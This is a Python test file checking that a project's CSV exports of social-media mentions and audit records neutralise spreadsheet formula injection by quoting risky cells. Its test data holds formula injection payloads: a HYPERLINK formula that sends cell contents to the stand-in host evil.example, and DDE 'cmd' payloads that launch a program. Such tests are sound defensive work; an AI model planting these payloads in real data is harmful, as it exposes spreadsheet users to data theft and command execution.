"""Every CSV Harken writes is safe to open in a spreadsheet: no cell starts a formula (issue 18, item 2)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from listener.collecting import store_page
from listener.db import make_engine
from listener.platforms.collector import Page
from listener.safe_text import FORMULA_START
from responders import audit
from responders.cli import app
from tests.test_storage import make_source, tweet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for your refund")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-555 call us",
    "=1+1 is what this comment says",
]


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [cell for row in rows[1:] for cell in row]


def test_export_mentions_as_csv_starts_no_cell_with_a_formula(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = make_engine(sqlite_url)
    source = make_source(engine)
    with Session(engine) as session:
        mentions = [tweet(n, text=text, user=str(n), handle=f"user{n}") for n, text in enumerate(HOSTILE)]
        mentions.append(tweet(9, text="a handle starting with a dash", user="9", handle="-2+3"))
        store_page(session, source, Page(mentions=mentions))
        session.commit()
    engine.dispose()
    monkeypatch.setenv("HARKEN_DATABASE__URL", sqlite_url)
    out = tmp_path / "mentions.csv"
    result = CliRunner().invoke(app, ["export", "mentions", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text(encoding="utf-8"))
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # The text is all there, behind the quote a spreadsheet shows as text.
    for text in HOSTILE:
        assert "'" + text in cells
    assert "'-2+3" in cells


def test_audit_export_as_csv_starts_no_cell_with_a_formula(sqlite_url: str) -> None:
    engine = make_engine(sqlite_url)
    with Session(engine) as session:
        audit.record(session, "=cmd|' /C calc'!A0", "profile.import", ("profile", "@SUM(1+1)"), None,
                     {"display_name": "=HYPERLINK(\"http://evil.example\")"})
        session.commit()
    out = io.StringIO()
    assert audit.export(engine, out, "csv") == 1
    engine.dispose()
    cells = _cells(out.getvalue())
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
